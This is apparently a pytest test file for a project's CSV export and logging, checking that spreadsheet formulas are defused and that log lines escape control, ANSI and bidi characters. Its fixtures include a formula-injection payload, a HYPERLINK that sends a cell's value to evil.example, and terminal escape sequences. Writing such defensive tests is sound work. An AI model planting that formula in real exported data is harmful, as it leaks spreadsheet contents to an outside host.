"""Nothing in the data drives a spreadsheet, a terminal or a reader of logs."""

import io
import json
import sys
from datetime import UTC, datetime

import pytest
import structlog

from moirae.cli.export import format_csv_cell
from moirae.runtime import logs


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_a_formula_is_text(start: str) -> None:
    text = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    assert format_csv_cell(text) == "'" + text


def test_other_values_stay_as_they_are() -> None:
    assert format_csv_cell("a=b") == "a=b"
    assert format_csv_cell(-0.5) == "-0.5"
    assert format_csv_cell(None) == ""
    assert format_csv_cell({"host": "=1"}) == '{"host":"=1"}'
    assert format_csv_cell(datetime(2026, 1, 1, tzinfo=UTC)) == "2026-01-01T00:00:00Z"


def test_a_log_line_is_one_line_of_plain_characters(monkeypatch: pytest.MonkeyPatch) -> None:
    written = io.StringIO()
    monkeypatch.setattr(sys, "stderr", written)
    logs.configure_logging()
    odd = "a\nb\r\x1b[31m\x00\x85\u2028\u202e"
    structlog.get_logger().error("failed", action="x", error=odd)
    structlog.reset_defaults()
    (line,) = written.getvalue().splitlines()
    assert line.isascii()
    assert line.isprintable()
    assert json.loads(line)["error"] == odd


def test_a_text_log_line_escapes_control_characters(monkeypatch: pytest.MonkeyPatch) -> None:
    stderr = io.StringIO()
    monkeypatch.setattr(sys, "stderr", stderr)
    logs.configure_logging("text")
    structlog.get_logger().error("failed", action="x", process="live", error="a b\x1b[31m\u202e\n")
    structlog.reset_defaults()
    (line,) = stderr.getvalue().splitlines()
    assert line.endswith(r'Z ERROR   failed  process=live  error="a b\u001b[31m\u202e\n"')
    assert line.isascii()
    assert line.isprintable()
